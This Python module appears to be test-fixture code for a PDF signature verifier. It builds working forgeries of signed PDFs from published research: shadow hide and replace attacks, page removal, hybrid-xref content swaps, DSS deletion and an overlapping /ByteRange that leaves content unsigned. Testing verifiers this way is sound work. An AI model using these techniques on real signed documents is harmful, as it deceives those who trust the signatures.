"""Crafted attacks on signed PDFs, each built here from the published descriptions (no file copied).

Why these: they are the families the PDF-signature literature and the DSS / pyHanko test suites keep
(Mladenov et al. 2019 "1 Trillion Dollar Refund"; Mainka, Mladenov, Rohlmann 2021 "Shadow Attacks"):

- **byte-range overlap**: a ``/ByteRange`` whose ranges overlap and leave the file's tail unsigned, with
  a CMS that is valid over exactly those ranges (signature wrapping's first step);
- **page added / page removed / content replaced**: incremental updates that change what is shown;
- **shadow hide**: the signed revision carries an opaque overlay annotation; the update removes it,
  revealing what was under it;
- **shadow replace**: the signed revision carries an unused form XObject; the update points the page's
  ``/XObject`` resource name at it (overlapping form XObjects: the same name, other drawing);
- **shadow hide-and-replace**: the signed revision carries an unused content stream; the update points
  the page's ``/Contents`` at it;
- **DSS deleted**: the ``/DSS`` a later signature covers is taken out of the catalog again (pyHanko's
  ``test_pades_double_sign_delete_dss`` idea): the earlier signature stays fine, the later one is broken;
- **hybrid reference**: the update lists its objects only in an ``/XRefStm`` xref stream, so readers
  that honour hybrid files see a page content that readers of the classic section do not.

``prepare_shadow`` adds the shadow objects before signing; the ``after_*`` functions make the update.
"""

from __future__ import annotations

import io

import pikepdf

from tests.verify.producers import openssl_cms
from tests.verify.producers.base import KeyFiles
from tests.verify.producers.increment import append_increment, stream

SHADOW_FORM = b"q 1 0 0 rg 0 0 200 60 re f Q"  # red block: the attacker's content
REVEALED = b"q 0 0 0 rg 100 600 300 40 re f Q"  # black bar: what the overlay hid


def _page(data: bytes) -> tuple[tuple[int, int], pikepdf.Dictionary, pikepdf.Pdf]:
    pdf = pikepdf.open(io.BytesIO(data))
    page = pdf.pages[0].obj
    return page.objgen, page, pdf


def _page_body(page: pikepdf.Dictionary, **changes: bytes | None) -> bytes:
    """The page dictionary's text with keys replaced (value = PDF syntax) or removed (None)."""
    kept = pikepdf.Dictionary({k: v for k, v in page.items() if k[1:] not in changes})
    extra = b"".join(b" /" + k.encode() + b" " + v for k, v in changes.items() if v is not None)
    return kept.unparse()[:-2] + extra + b" >>"


def prepare_shadow(data: bytes) -> bytes:
    """Before signing (full rewrite, the file is unsigned): page 1 gets a content stream drawing a hidden
    black bar, an opaque white Square annotation over it, a form XObject /Fm0 it draws (a thin grey
    line), an unused form XObject and an unused content stream (the shadows)."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0]
        form = pdf.make_stream(b"q 0.5 g 0 0 200 2 re f Q", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                               BBox=[0, 0, 200, 60])
        shadow_form = pdf.make_stream(SHADOW_FORM, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                                      BBox=[0, 0, 200, 60])
        resources = page.obj.get("/Resources", pikepdf.Dictionary())
        xobjects = resources.get("/XObject", pikepdf.Dictionary())
        xobjects.Fm0 = form
        resources.XObject = xobjects
        page.obj.Resources = resources
        page.contents_add(pdf.make_stream(REVEALED + b" q 1 0 0 1 100 100 cm /Fm0 Do Q"), prepend=False)
        cover = pdf.make_stream(b"q 1 g 0 0 300 40 re f Q", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                                BBox=[0, 0, 300, 40])
        overlay = pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Square, Rect=[100, 600, 400, 640], F=4,
            C=[1, 1, 1], IC=[1, 1, 1], AP=pikepdf.Dictionary(N=cover), NM=pikepdf.String("overlay")))
        page.obj.Annots = pdf.make_indirect(pikepdf.Array([overlay]))
        pdf.Root.SohoaShadow = pdf.make_indirect(pikepdf.Dictionary(
            Form=shadow_form, Contents=pdf.make_stream(SHADOW_FORM)))  # keeps the shadows in the file
        out = io.BytesIO()
        pdf.save(out, static_id=True)
        return out.getvalue()


def _shadows(pdf: pikepdf.Pdf) -> tuple[tuple[int, int], tuple[int, int]]:
    holder = pdf.Root.SohoaShadow
    return holder.Form.objgen, holder.Contents.objgen


def after_hide(data: bytes) -> bytes:
    """Shadow hide: the overlay annotation is taken off the page; the hidden bar shows."""
    ref, page, pdf = _page(data)
    with pdf:
        annots = page.Annots
        kept = [a for a in annots if str(a.get("/NM", "")) != "overlay"]
        body = b"[" + b" ".join(a.unparse() for a in kept) + b"]"
        return append_increment(data, {annots.objgen: body})


def after_replace(data: bytes) -> bytes:
    """Shadow replace: /Fm0 in the page's resources now names the signed-but-unused shadow form."""
    ref, page, pdf = _page(data)
    with pdf:
        form, _contents = _shadows(pdf)
        resources = pikepdf.Dictionary({k: v for k, v in page.Resources.items() if k != "/XObject"})
        xobjects = pikepdf.Dictionary({k: v for k, v in page.Resources.XObject.items() if k != "/Fm0"})
        body = (resources.unparse()[:-2] + b" /XObject " + xobjects.unparse()[:-2]
                + f" /Fm0 {form[0]} {form[1]} R >> >>".encode())
        return append_increment(data, {ref: _page_body(page, Resources=body)})


def after_hide_and_replace(data: bytes) -> bytes:
    """Shadow hide-and-replace: the page's /Contents now is the signed-but-unused shadow stream."""
    ref, page, pdf = _page(data)
    with pdf:
        _form, contents = _shadows(pdf)
        return append_increment(data, {ref: _page_body(page, Contents=f"{contents[0]} {contents[1]} R".encode())})


def replace_content(data: bytes) -> bytes:
    """Page 1's first content stream redefined under its own object number in an update."""
    ref, page, pdf = _page(data)
    with pdf:
        contents = page.Contents
        target = contents[0] if isinstance(contents, pikepdf.Array) else contents
        return append_increment(data, {target.objgen: stream(b"q 0 0 1 rg 50 50 400 400 re f Q")})


def remove_page(data: bytes) -> bytes:
    """The last page dropped from the page tree (``/Kids`` and ``/Count``) in an update."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pages = pdf.Root.Pages
        kids = list(pages.Kids)
        kept = pikepdf.Dictionary({k: v for k, v in pages.items() if k not in ("/Kids", "/Count")})
        body = (kept.unparse()[:-2] + b" /Kids [" + b" ".join(k.unparse() for k in kids[:-1])
                + f"] /Count {len(kids) - 1} >>".encode())
        return append_increment(data, {pages.objgen: body})


def hybrid_content(data: bytes) -> bytes:
    """Hybrid reference: page 1's content stream redefined, listed only in the ``/XRefStm`` stream."""
    ref, page, pdf = _page(data)
    with pdf:
        contents = page.Contents
        target = contents[0] if isinstance(contents, pikepdf.Array) else contents
        return append_increment(data, {}, hidden={target.objgen: stream(b"q 0 1 0 rg 50 50 400 400 re f Q")})


def byterange_overlap(data: bytes, keys: KeyFiles) -> bytes:
    """A valid CMS over ``[0 a] + [100 a-100]``: overlapping ranges, the /Contents and the tail unsigned."""
    prepared, (start, end) = openssl_cms.prepare(data)
    placeholder_at = prepared.rindex(b"/ByteRange [", 0, start)
    old = prepared[placeholder_at:prepared.index(b"]", placeholder_at) + 1]
    new = f"/ByteRange [0 {start} 100 {start - 100}]".encode().ljust(len(old))
    prepared = prepared[:placeholder_at] + new + prepared[placeholder_at + len(old):]
    covered = prepared[:start] + prepared[100:start]
    der = openssl_cms.cms_der(covered, keys, attrs=True, md="sha256", detached=True)
    return openssl_cms.embed(prepared, (start, end), der)


def delete_dss(data: bytes) -> bytes:
    """The catalog rewritten without ``/DSS`` in an update."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        root = pikepdf.Dictionary({k: v for k, v in pdf.Root.items() if k != "/DSS"})
        return append_increment(data, {pdf.Root.objgen: root.unparse()})
